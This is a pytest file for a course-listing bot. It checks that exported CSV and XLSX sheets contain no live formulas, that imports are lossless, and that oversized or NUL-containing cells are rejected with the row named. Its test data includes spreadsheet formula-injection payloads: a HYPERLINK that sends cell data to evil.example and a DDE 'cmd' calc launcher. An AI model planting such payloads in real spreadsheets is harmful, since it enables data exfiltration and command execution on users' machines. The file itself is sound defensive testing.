"""Sheets that go out and come back: no live formulas, proper quoting, row-numbered refusals
for what no sheet or database can hold (issue 14.6)."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from openpyxl import load_workbook

from bot import SORRY, House
from dialogs.courses import FILE_DOWNLOAD
from storage.courses import CourseRepository, export_courses, import_courses
from tests.fakes import FakeConnector
from tests.helpers import message

HEADER = "titel;anordnare;länk;målgrupp;ämnen;format;längd;beskrivning"
# Cells a spreadsheet program would run: a link that sends the sheet's data away, and the rest.
NASTY = [
    '=HYPERLINK("https://evil.example/?d="&A2;"Klicka")',
    "+46 70 123 45 67",
    "-2 timmar",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'citerad",
    'Med "citat"; semikolon och radbrytning',
]


class Files:
    """A stand-in for Teams' file download links."""

    def __init__(self) -> None:
        self.files: dict[str, bytes] = {}
        self.server: TestServer | None = None

    async def serve(self, request: web.Request) -> web.Response:
        return web.Response(body=self.files[request.match_info["name"]])

    def url(self, name: str) -> str:
        assert self.server is not None
        return str(self.server.make_url(f"/{name}"))


@pytest.fixture
async def files() -> AsyncIterator[Files]:
    found = Files()
    app = web.Application()
    app.router.add_get("/{name}", found.serve)
    async with TestServer(app) as server:
        found.server = server
        yield found


async def upload(
    client: TestClient, connector: FakeConnector, files: Files, name: str, data: bytes
) -> str:
    files.files[name] = data
    connector.clear()
    body = message("", service_url=connector.url, aad="aad-coordinator")
    body["attachments"] = [
        {
            "contentType": FILE_DOWNLOAD,
            "name": name,
            "content": {"downloadUrl": files.url(name), "fileType": name.rsplit(".", 1)[-1]},
        }
    ]
    response = await client.post(
        "/api/messages", data=json.dumps(body), headers={"Content-Type": "application/json"}
    )
    assert response.status in (200, 201)
    return "\n".join(connector.texts())


def nasty_sheet() -> bytes:
    rows = [HEADER]
    for n, cell in enumerate(NASTY):
        title = cell.replace(";", ",").replace('"', "")  # the title column gets a plain version
        rows.append(
            f"Kurs {n} {title};Anordnare;https://example.org/kurs-{n};alla;ämne;"
            f'"{cell.replace(chr(34), chr(34) * 2)}";1 timme;"{cell.replace(chr(34), chr(34) * 2)}"'
        )
    return "\r\n".join(rows).encode("utf-8")


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
async def test_export_then_import_changes_nothing_and_runs_nothing(
    house: House,
    client: TestClient,
    connector: FakeConnector,
    files: Files,
    tmp_path: Path,
    suffix: str,
) -> None:
    answer = await upload(client, connector, files, "kurser.csv", nasty_sheet())
    assert "Kurslistan är inläst" in answer, answer
    before = CourseRepository(house.sessions).all()
    assert {c.format for c in before} >= set(NASTY)

    path = f"{tmp_path}/export.{suffix}"
    export_courses(house.sessions, path)
    if suffix == "xlsx":
        sheet = load_workbook(path).active
        formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        assert formulas == []
        assert {c.value for row in sheet.iter_rows() for c in row} >= set(NASTY)
    else:
        text = Path(path).read_text(encoding="utf-8-sig")
        for line in text.splitlines()[1:]:
            assert not line.startswith(("=", "+", "-", "@")), line
            for cell in line.split(";"):
                assert not cell.strip('"').startswith(("=", "+", "-", "@")), cell

    report = import_courses(house.sessions, path, now=house.clock.now())
    assert report.ok and report.unchanged == len(before) and not report.updated
    assert CourseRepository(house.sessions).all() == before


@pytest.mark.parametrize(
    ("cell", "said"),
    [
        ("ett\x00nolltecken", "Rad 2, kolumn ”beskrivning”: innehåller ett otillåtet tecken"),
        ("x" * 40_000, "Rad 2, kolumn ”beskrivning”: är längre än"),
        ("x" * 200_000, "Rad 2"),
    ],
    ids=["nul", "over-32767", "over-the-csv-limit"],
)
async def test_a_cell_no_sheet_can_hold_is_named_by_its_row(
    house: House, client: TestClient, connector: FakeConnector, files: Files, cell: str, said: str
) -> None:
    sheet = f"{HEADER}\r\nKurs;Anordnare;https://example.org/k;alla;ämne;film;1 timme;{cell}"
    answer = await upload(client, connector, files, "kurser.csv", sheet.encode("utf-8"))
    assert said in answer, answer[:300]
    assert SORRY not in answer
    assert not [c for c in CourseRepository(house.sessions).all() if c.link.endswith("/k")]
